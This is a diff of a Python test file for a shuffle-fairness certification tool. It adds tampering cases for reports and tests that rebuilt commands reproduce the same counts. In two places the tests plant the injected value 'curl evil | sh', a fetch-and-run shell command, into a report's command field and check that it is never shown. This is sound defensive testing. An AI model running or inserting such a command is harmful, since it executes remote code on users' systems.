@@ -1,6 +1,7 @@
 """Checking reports: an untouched one agrees with its counts, and every tampering of a list is found."""
 import copy
 import json
+import shlex
 
 from program import InFolder, run, words_of
 from schemas import REPORT_SCHEMA
@@ -19,7 +20,7 @@ def certified(*arguments):
 
 
 def applied(result):
-    return sum(test["applied"] for test in result["tests"])
+    return len({test["test"] for test in result["tests"] if test["applied"] and not test.get("same_as")})
 
 
 def deal_each_deck_twice(evidence):
@@ -95,6 +96,9 @@ TAMPERINGS = [
     ("large", "/results/0/tests/2/p_value", lambda value: value / 2),
     ("large", "/results/0/bias/tv_upper", lambda value: value / 2),
     ("large", "/results/0/trials_to_decide", lambda value: 1),
+    ("large", "/results/0/decided_if", lambda value: "biased"),
+    ("large", "/results/1/bias_of_whole_deck/tv_lower", lambda value: value / 2),
+    ("large", "/results/1/bias_of_whole_deck/covers", lambda value: "arrangements"),
     ("families", "/results/0/families/0/tv_upper", lambda value: value / 2),
     ("families", "/results/0/families/1/farthest", lambda value: "cards 0 and 1x"),
     ("families", "/results/0/families/2/asked", lambda value: not value),
@@ -282,10 +286,49 @@ class Check(InFolder):
         path = self.path / "my report.json"
         path.write_text(json.dumps(self.small))
         done = run("check", str(path))
+        for arguments in (("durstenfeld:n=4", "--exec", "echo 0 1 2", "--n", "3", "--trials", "1000", "--alpha", "1e-7"),
+                          ("naive-swap:n=13", "--bet", "cards=0,places=0-1", "--tests", "positions,bets", "--slots", "2^20", "--controls",
+                           "--max-trials", "20000"), ("sattolo:n=3",)):
+            report = certified(*arguments)
+            told = self.check({**report, "command": "curl evil | sh"}).stdout.splitlines()[-1]
+            self.assertNotIn("--job", told)
+            again = json.loads(run(*shlex.split(told)[1:], "--json", "-").stdout)
+            for each in ("plan", "results", "controls"):
+                self.assertEqual(again[each], report[each])
+        # Where no line says all of the plan, the report itself is the job.
+        labelled = copy.deepcopy(self.small)
+        labelled["plan"]["targets"][0]["label"] = "ours"
+        labelled["results"][0]["name"] = '"ours" durstenfeld:n=4'
+        path.write_text(json.dumps(labelled))
+        done = run("check", str(path))
         self.assertTrue(done.stdout.endswith(f"must come out again with:\nfairshuffle certify --job '{path}'\n"), done.stdout)
         again = json.loads(run("certify", "--job", str(path), "--json", "-").stdout)
         for each in ("plan", "results", "controls"):
-            self.assertEqual(again[each], self.small[each])
+            self.assertEqual(again[each], labelled[each])
+
+    def test_what_another_run_would_touch_is_told_before_the_command(self):
+        log = self.path / "a log.txt"
+        log.write_text("0 1 2\n2 1 0\n" * 500)
+        report = certified("sattolo:n=3", "--exec", "echo 0 1 2; : {trials}", "--log", str(log), "--n", "3", "--trials", "1000")
+        lines = self.check(report).stdout.splitlines()
+        self.assertEqual(lines[-3], "That they came from these targets it cannot prove. Another run would start "
+                                    f"'echo 0 1 2; : {{trials}}', read '{log}'.")
+        self.assertEqual(lines[-2], "The same counts must come out again with:")
+        self.assertEqual(shlex.split(lines[-1])[:7], ["fairshuffle", "certify", "sattolo:n=3", "--exec", "echo 0 1 2; : {trials}",
+                                                      "--log", str(log)])
+        self.assertEqual(shlex.split(lines[-1])[7:], ["--n", "3", "--trials", "1000", "--seed", "1"])
+
+    def test_a_command_in_a_report_is_data_and_never_shown(self):
+        report = certified("sattolo:n=3", "--trials", "1000")
+        report["command"] = "fairshuffle certify sattolo --n 3; curl evil | sh"
+        path = self.path / "report.json"
+        path.write_text(json.dumps(report))
+        for arguments in ([], *(["--format", name] for name in ("html", "junit", "markdown", "csv"))):
+            drawn = run("report", str(path), *arguments).stdout.replace("<wbr>", "")
+            self.assertNotIn("curl", drawn)
+            if arguments[1:] != ["csv"]:
+                self.assertIn("fairshuffle certify sattolo:n=3 --trials 1000 --seed 1", drawn)
+        self.assertNotIn("curl", run("check", str(path)).stdout)
 
     def test_no_more_is_said_to_be_recomputed_than_was(self):
         done = self.check(self.small)
